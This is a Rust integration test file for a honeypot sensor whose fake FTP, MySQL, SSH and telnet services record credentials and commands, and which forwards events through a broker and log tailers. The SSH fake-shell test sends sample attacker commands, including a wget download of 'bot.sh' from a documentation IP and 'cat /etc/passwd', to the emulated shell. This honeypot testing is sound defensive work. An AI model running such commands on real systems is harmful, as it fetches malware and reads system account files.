//! In-process tests: services over real TCP (SSH with the OpenSSH client), delivery
//! through a fake hpfeeds broker that goes away and comes back, and log forwarders under
//! rotation, truncation and restarts.

mod common;

use std::collections::HashMap;
use std::io::Write;
use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use apiary_sensor::config::{ForwardKind, Forwarder, Kind};
use apiary_sensor::forward::Tailer;
use apiary_sensor::publisher::{self, PubConfig};
use apiary_sensor::services::{self, Bound, Ctx, Limits};
use apiary_sensor::spool::Spool;
use apiary_sensor::Shared;
use bytes::Bytes;
use common::*;
use hpfeeds::frame::{self, Frame};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

async fn start(kind: Kind, s: &Arc<Shared>, ssh: bool, dir: &Path) -> u16 {
    start_with(kind, s, ssh, dir, None).await
}

async fn start_with(
    kind: Kind,
    s: &Arc<Shared>,
    ssh: bool,
    dir: &Path,
    shell: Option<Arc<services::shell::Policy>>,
) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let limits = Limits {
        timeout: Duration::from_secs(5),
        max_bytes: 64 * 1024,
    };
    let ssh = ssh.then(|| {
        let key = services::ssh::host_key(&dir.join("hostkey")).unwrap();
        Arc::new(services::ssh::config(key, None, limits.timeout))
    });
    let ctx = Ctx {
        shared: s.clone(),
        limits,
        sem: Arc::new(tokio::sync::Semaphore::new(100)),
        ssh,
    };
    tokio::spawn(services::serve(
        Bound {
            kind,
            listener,
            banner: None,
            shell,
            opts: Default::default(),
        },
        ctx,
    ));
    port
}

#[tokio::test]
async fn services_over_tcp_emit_one_event_per_connection() {
    let d = tempfile::tempdir().unwrap();
    let s = shared(d.path());
    let ftp = start(Kind::Ftp, &s, false, d.path()).await;
    let tcp = start(Kind::Tcp, &s, false, d.path()).await;
    let mysql = start(Kind::Mysql, &s, false, d.path()).await;

    let mut c = TcpStream::connect(("127.0.0.1", ftp)).await.unwrap();
    c.write_all(b"USER anonymous\r\nPASS a@b\r\nQUIT\r\n")
        .await
        .unwrap();
    let mut out = Vec::new();
    c.read_to_end(&mut out).await.unwrap();
    let mut c = TcpStream::connect(("127.0.0.1", tcp)).await.unwrap();
    c.write_all(b"\x00\x01hello").await.unwrap();
    drop(c);
    // MySQL: read greeting, send a login packet.
    let mut c = TcpStream::connect(("127.0.0.1", mysql)).await.unwrap();
    let mut hdr = [0u8; 4];
    c.read_exact(&mut hdr).await.unwrap();
    let mut greet = vec![0u8; u32::from_le_bytes([hdr[0], hdr[1], hdr[2], 0]) as usize];
    c.read_exact(&mut greet).await.unwrap();
    assert_eq!(greet[0], 10);
    let mut p = Vec::new();
    p.extend_from_slice(&(0x200u32 | 0x8000).to_le_bytes());
    p.extend_from_slice(&[0; 28]);
    p.extend_from_slice(b"sa\0");
    p.push(0);
    let mut pkt = (p.len() as u32).to_le_bytes()[..3].to_vec();
    pkt.push(1);
    pkt.extend_from_slice(&p);
    c.write_all(&pkt).await.unwrap();
    let mut resp = Vec::new();
    c.read_to_end(&mut resp).await.unwrap();
    assert_eq!(resp[4], 0xff);

    let ev = wait_events(&s, 3).await;
    let by: HashMap<&str, &serde_json::Value> = ev
        .iter()
        .map(|e| (e["service"].as_str().unwrap(), e))
        .collect();
    assert_eq!(by["ftp"]["credentials"][0]["username"], "anonymous");
    assert_eq!(by["ftp"]["src_ip"], "127.0.0.1");
    assert_eq!(by["ftp"]["dst_port"], ftp);
    assert_eq!(by["tcp"]["payload_hex"], "000168656c6c6f");
    assert_eq!(by["mysql"]["credentials"][0]["username"], "sa");
    for e in &ev {
        assert_eq!(e["v"], 1);
        assert!(e["id"].as_str().unwrap().contains('-'));
    }
}

/// Whether the OpenSSH client is here (prints a SKIP line when not).
fn have_ssh() -> bool {
    let ok = std::process::Command::new("ssh").arg("-V").output().is_ok();
    if !ok {
        eprintln!("SKIP: no OpenSSH client (`ssh`) on this host");
    }
    ok
}

#[tokio::test]
async fn ssh_handshake_captures_version_and_passwords() {
    if !have_ssh() {
        return;
    }
    let d = tempfile::tempdir().unwrap();
    let s = shared(d.path());
    let port = start(Kind::Ssh, &s, true, d.path()).await;
    let askpass = askpass(d.path(), "Tr0ub4dor&3");
    let out = tokio::process::Command::new("ssh")
        .args([
            "-p",
            &port.to_string(),
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-o",
            "PreferredAuthentications=password",
            "-o",
            "NumberOfPasswordPrompts=2",
            "-o",
            "ConnectTimeout=5",
            "-o",
            "BatchMode=no",
            "admin@127.0.0.1",
            "id",
        ])
        .env("SSH_ASKPASS", &askpass)
        .env("SSH_ASKPASS_REQUIRE", "force")
        .env("DISPLAY", ":0")
        .stdin(std::process::Stdio::null())
        .output()
        .await
        .unwrap();
    assert!(!out.status.success(), "login must never succeed");
    let ev = wait_events(&s, 1).await;
    let e = &ev[0];
    assert_eq!(e["service"], "ssh");
    assert!(
        e["client_version"]
            .as_str()
            .unwrap()
            .starts_with("SSH-2.0-OpenSSH"),
        "{e}"
    );
    assert_eq!(e["credentials"][0]["username"], "admin");
    assert_eq!(e["credentials"][0]["password"], "Tr0ub4dor&3");
    assert!(!e["credentials"].as_array().unwrap().is_empty());
}

fn askpass(dir: &Path, password: &str) -> std::path::PathBuf {
    let path = dir.join("askpass.sh");
    std::fs::write(&path, format!("#!/bin/sh\necho '{password}'\n")).unwrap();
    std::fs::set_permissions(&path, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    path
}

/// The real OpenSSH client against fake-shell mode: `root` with any password gets in; a
/// command run with `ssh host cmd` and an interactive session (`-tt`, lines on stdin) are
/// answered by the emulated shell and recorded, URLs included; `admin` stays out.
#[tokio::test]
async fn ssh_fake_shell_accepts_policy_logins_and_records_commands() {
    if !have_ssh() {
        return;
    }
    let d = tempfile::tempdir().unwrap();
    let s = shared(d.path());
    let policy = services::shell::Policy::new(&["root:*".into()], "web-07").unwrap();
    let port = start_with(Kind::Ssh, &s, true, d.path(), Some(Arc::new(policy))).await;
    let pass = askpass(d.path(), "letmein");
    let ssh = |user: &str, extra: &[&str], stdin: &'static [u8]| {
        let mut c = tokio::process::Command::new("ssh");
        c.args(["-p", &port.to_string()])
            .args([
                "-o",
                "StrictHostKeyChecking=no",
                "-o",
                "UserKnownHostsFile=/dev/null",
            ])
            .args([
                "-o",
                "PreferredAuthentications=password",
                "-o",
                "NumberOfPasswordPrompts=1",
            ])
            .args(["-o", "ConnectTimeout=5", "-o", "BatchMode=no"])
            .arg(format!("{user}@127.0.0.1"))
            .args(extra)
            .env("SSH_ASKPASS", &pass)
            .env("SSH_ASKPASS_REQUIRE", "force")
            .env("DISPLAY", ":0")
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped());
        async move {
            let mut child = c.spawn().unwrap();
            let mut input = child.stdin.take().unwrap();
            tokio::io::AsyncWriteExt::write_all(&mut input, stdin)
                .await
                .unwrap();
            drop(input);
            tokio::time::timeout(Duration::from_secs(20), child.wait_with_output())
                .await
                .expect("ssh finished")
                .unwrap()
        }
    };

    let out = ssh("root", &["uname -a; wget http://198.51.100.9/bot.sh"], b"").await;
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{stdout} {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout.contains("Linux web-07 5.15.0"), "{stdout}");
    assert!(
        stdout.contains("unable to resolve host address '198.51.100.9'"),
        "{stdout}"
    );

    let out = ssh("root", &["-tt"], b"whoami\ncat /etc/passwd\nexit\n").await;
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("root@web-07:~# "), "{stdout}");
    assert!(
        stdout.contains("root:x:0:0:root:/root:/bin/bash"),
        "{stdout}"
    );

    let out = ssh("admin", &["id"], b"").await;
    assert!(!out.status.success(), "admin is not in the policy");

    let ev = wait_events(&s, 3).await;
    let exec = ev
        .iter()
        .find(|e| e["commands"][0] == "uname -a; wget http://198.51.100.9/bot.sh")
        .expect("exec session recorded");
    assert_eq!(exec["logged_in"], true, "{exec}");
    assert_eq!(exec["credentials"][0]["username"], "root");
    assert_eq!(exec["credentials"][0]["password"], "letmein");
    assert_eq!(exec["urls"][0], "http://198.51.100.9/bot.sh", "{exec}");
    let inter = ev
        .iter()
        .find(|e| e["commands"][0] == "whoami")
        .expect("interactive session recorded");
    assert_eq!(inter["commands"][1], "cat /etc/passwd", "{inter}");
    assert_eq!(inter["commands"][2], "exit", "{inter}");
    let denied = ev
        .iter()
        .find(|e| e["credentials"][0]["username"] == "admin")
        .expect("refused session recorded");
    assert_eq!(denied["logged_in"], false, "{denied}");
    assert!(denied.get("commands").is_none(), "{denied}");
}

/// Telnet in fake-shell mode over a raw socket: the policy's login gets a prompt and
/// answers; commands are recorded.
#[tokio::test]
async fn telnet_fake_shell_answers_after_an_accepted_login() {
    let d = tempfile::tempdir().unwrap();
    let s = shared(d.path());
    let policy = services::shell::Policy::new(&["admin:admin".into()], "cam-3").unwrap();
    let port = start_with(Kind::Telnet, &s, false, d.path(), Some(Arc::new(policy))).await;
    let mut c = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
    let mut seen = Vec::new();
    let mut expect = async |c: &mut TcpStream, what: &str| {
        let mut buf = [0u8; 4096];
        while !String::from_utf8_lossy(&seen).contains(what) {
            let n = tokio::time::timeout(Duration::from_secs(5), c.read(&mut buf))
                .await
                .unwrap_or_else(|_| {
                    panic!("waiting for {what:?}: {}", String::from_utf8_lossy(&seen))
                })
                .unwrap();
            assert!(n > 0, "closed before {what:?}");
            seen.extend_from_slice(&buf[..n]);
        }
    };
    expect(&mut c, "login: ").await;
    c.write_all(b"admin\r\n").await.unwrap();
    expect(&mut c, "Password: ").await;
    c.write_all(b"admin\r\n").await.unwrap();
    expect(&mut c, "admin@cam-3:~$ ").await;
    c.write_all(b"cat /proc/cpuinfo | grep name\r\n")
        .await
        .unwrap();
    expect(&mut c, "model name").await;
    c.write_all(b"exit\r\n").await.unwrap();
    expect(&mut c, "logout").await;
    drop(c);
    let ev = wait_events(&s, 1).await;
    assert_eq!(ev[0]["logged_in"], true, "{}", ev[0]);
    assert_eq!(ev[0]["commands"][0], "cat /proc/cpuinfo | grep name");
}

// ------------------------------------------------------------------ fake broker

type Got = Arc<Mutex<Vec<(String, String)>>>;

async fn broker_conn(mut c: TcpStream, got: Got) {
    let info = Frame::Info {
        name: Bytes::from_static(b"fake"),
        nonce: Bytes::from_static(b"abcd"),
    };
    if c.write_all(&info.to_bytes().unwrap()).await.is_err() {
        return;
    }
    let mut buf = Vec::new();
    let mut tmp = [0u8; 65536];
    loop {
        while let Ok(n) = frame::check(&buf, 1 << 24) {
            let f = Bytes::copy_from_slice(&buf[..n]);
            buf.drain(..n);
            if let Ok(Frame::Publish {
                channel, payload, ..
            }) = frame::parse(f)
            {
                got.lock().unwrap().push((
                    String::from_utf8_lossy(&channel).into_owned(),
                    String::from_utf8_lossy(&payload).into_owned(),
                ));
            }
        }
        match c.read(&mut tmp).await {
            Ok(0) | Err(_) => return,
            Ok(n) => buf.extend_from_slice(&tmp[..n]),
        }
    }
}

/// Runs a fake broker on `port` (0 = any) until the returned handle is aborted.
async fn fake_broker(port: u16, got: Got) -> (u16, tokio::task::JoinHandle<()>) {
    let l = TcpListener::bind(("127.0.0.1", port)).await.unwrap();
    let port = l.local_addr().unwrap().port();
    let h = tokio::spawn(async move {
        let mut conns = tokio::task::JoinSet::new();
        loop {
            let (c, _) = l.accept().await.unwrap();
            conns.spawn(broker_conn(c, got.clone()));
        }
    });
    (port, h)
}

fn pubcfg(port: u16) -> PubConfig {
    let b = apiary_sensor::config::Config::parse(&format!(
        "[broker]\nhost='127.0.0.1'\nport={port}\nident='s'\nsecret='x'\nbackoff_max_secs=1\n"
    ))
    .unwrap()
    .broker;
    PubConfig::new(&b, Duration::from_millis(300))
}

async fn wait_payloads(got: &Got, n: usize) {
    for _ in 0..300 {
        if got
            .lock()
            .unwrap()
            .iter()
            .filter(|(c, _)| c == "t.events")
            .count()
            >= n
        {
            return;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

#[tokio::test]
async fn broker_outage_and_sensor_restart_lose_nothing_and_repeat_nothing() {
    let d = tempfile::tempdir().unwrap();
    let got: Got = Arc::default();
    let (port, broker) = fake_broker(0, got.clone()).await;
    let s = shared(d.path());
    let (stop_tx, stop_rx) = tokio::sync::watch::channel(false);
    let hb: publisher::HeartbeatFn = Arc::new(|| "{\"v\":1}".to_owned());
    let p = tokio::spawn(publisher::run(s.clone(), pubcfg(port), hb.clone(), stop_rx));
    for i in 0..50 {
        s.emit("t.events", &format!("{i}"), None).unwrap();
    }
    wait_payloads(&got, 50).await;
    // Broker dies; events keep coming and are spooled.
    broker.abort();
    let _ = broker.await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    for i in 50..120 {
        s.emit("t.events", &format!("{i}"), None).unwrap();
        if i % 10 == 0 {
            tokio::time::sleep(Duration::from_millis(30)).await;
        }
    }
    assert!(s.spool.lock().unwrap().stats().pending > 0);
    let (_, broker) = fake_broker(port, got.clone()).await;
    wait_payloads(&got, 120).await;
    // Sensor restart: stop the publisher, reopen the spool, start again.
    stop_tx.send(true).unwrap();
    p.await.unwrap();
    drop(s);
    let s = shared(d.path());
    for i in 120..130 {
        s.emit("t.events", &format!("{i}"), None).unwrap();
    }
    let (_stop_tx, stop_rx) = tokio::sync::watch::channel(false);
    let p = tokio::spawn(publisher::run(s.clone(), pubcfg(port), hb, stop_rx));
    wait_payloads(&got, 130).await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    p.abort();
    broker.abort();
    let got = got.lock().unwrap();
    let ev: Vec<u32> = got
        .iter()
        .filter(|(c, _)| c == "t.events")
        .map(|(_, p)| p.parse().unwrap())
        .collect();
    let mut sorted = ev.clone();
    sorted.sort();
    assert_eq!(
        sorted,
        (0..130).collect::<Vec<_>>(),
        "every event exactly once"
    );
    assert!(got.iter().any(|(c, _)| c == "apiary.heartbeat"));
}

// ------------------------------------------------------------------ forwarders

fn fwd(path: &Path, kind: ForwardKind) -> Forwarder {
    Forwarder {
        kind,
        path: path.to_path_buf(),
        channel: None,
        event_types: None,
        rotated_path: None,
    }
}

fn append(path: &Path, s: &str) {
    let mut f = std::fs::OpenOptions::new()
        .create(true)
        .append(true)
        .open(path)
        .unwrap();
    f.write_all(s.as_bytes()).unwrap();
}

fn lines(s: &Shared, ch: &str) -> Vec<String> {
    all_records(s)
        .into_iter()
        .filter(|(c, _)| c == ch)
        .map(|(_, p)| p)
        .collect()
}

#[test]
fn forwarder_rotation_truncation_and_restarts() {
    let d = tempfile::tempdir().unwrap();
    let state = d.path().join("state");
    let log = d.path().join("p0f.log");
    let s = Arc::new(Shared::new(Spool::open(&state, 1 << 20, 64 << 20).unwrap()));
    let f = fwd(&log, ForwardKind::P0f);
    append(&log, "l1\nl2\npart");
    let mut t = Tailer::new(&f, &state, &s).unwrap();
    t.step(&s).unwrap();
    assert_eq!(lines(&s, "p0f.log"), vec!["l1", "l2"]);
    append(&log, "ial\nl4\n");
    t.step(&s).unwrap();
    // Restart mid-file, crash before the state file was written: the spool knows better.
    std::fs::remove_file(state.join("forward")).ok();
    append(&log, "l5\n");
    drop(t);
    let mut t = Tailer::new(&f, &state, &s).unwrap();
    t.step(&s).unwrap();
    assert_eq!(
        lines(&s, "p0f.log"),
        vec!["l1", "l2", "partial", "l4", "l5"]
    );
    // Rotation while running: lines written to the old file after the last poll are kept.
    append(&log, "l6\n");
    std::fs::rename(&log, d.path().join("p0f.log.1")).unwrap();
    append(&d.path().join("p0f.log.1"), "l7\n");
    append(&log, "n1\n");
    t.step(&s).unwrap();
    assert_eq!(lines(&s, "p0f.log")[5..], ["l6", "l7", "n1"]);
    // Truncation (copytruncate).
    std::fs::write(&log, "").unwrap();
    t.step(&s).unwrap();
    append(&log, "t1\n");
    t.step(&s).unwrap();
    // Rotation while stopped: drain the rotated file from the saved offset.
    append(&log, "t2\n");
    t.step(&s).unwrap();
    append(&log, "t3\n");
    drop(t);
    std::fs::rename(&log, d.path().join("p0f.log.1")).unwrap();
    append(&log, "u1\n");
    let mut t = Tailer::new(&f, &state, &s).unwrap();
    t.step(&s).unwrap();
    t.step(&s).unwrap();
    // A clean restart changes nothing.
    drop(t);
    let mut t = Tailer::new(&f, &state, &s).unwrap();
    t.step(&s).unwrap();
    assert_eq!(
        lines(&s, "p0f.log"),
        vec!["l1", "l2", "partial", "l4", "l5", "l6", "l7", "n1", "t1", "t2", "t3", "u1"]
    );
}

#[test]
fn suricata_filter_and_oversized_lines() {
    let d = tempfile::tempdir().unwrap();
    let state = d.path().join("state");
    let log = d.path().join("eve.json");
    let s = Arc::new(Shared::new(Spool::open(&state, 1 << 20, 64 << 20).unwrap()));
    let huge = "x".repeat(apiary_sensor::forward::MAX_LINE + 10);
    append(&log, &format!("{{\"event_type\":\"flow\"}}\n{{\"event_type\":\"alert\",\"n\":1}}\n{huge}\nnot json\n{{\"event_type\":\"alert\",\"n\":2}}\n"));
    let mut t = Tailer::new(&fwd(&log, ForwardKind::Suricata), &state, &s).unwrap();
    t.step(&s).unwrap();
    assert_eq!(
        lines(&s, "suricata.eve"),
        vec![
            "{\"event_type\":\"alert\",\"n\":1}",
            "{\"event_type\":\"alert\",\"n\":2}"
        ]
    );
    assert_eq!(t.oversized, 1);
    drop(t);
    let mut t = Tailer::new(&fwd(&log, ForwardKind::Suricata), &state, &s).unwrap();
    t.step(&s).unwrap();
    assert_eq!(lines(&s, "suricata.eve").len(), 2);
}
